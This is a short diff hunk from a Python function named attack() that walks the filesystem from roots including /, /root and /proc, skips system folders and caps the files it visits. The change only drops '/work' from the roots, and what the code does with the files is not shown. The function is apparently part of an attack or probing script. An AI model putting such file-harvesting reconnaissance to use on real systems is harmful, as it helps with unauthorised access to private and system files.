@@ -43,7 +43,7 @@ def attack():
     import os
 
     me = os.path.abspath(__file__)
-    for top in ("/", "/work", "/home", "/root", "/tmp", "/proc"):
+    for top in ("/", "/home", "/root", "/tmp", "/proc"):
         for folder, folders, files in os.walk(top):
             folders[:] = [f for f in folders if f not in ("sys", "dev", "lib", "usr", "site-packages")][:200]
             for name in files[:500]:
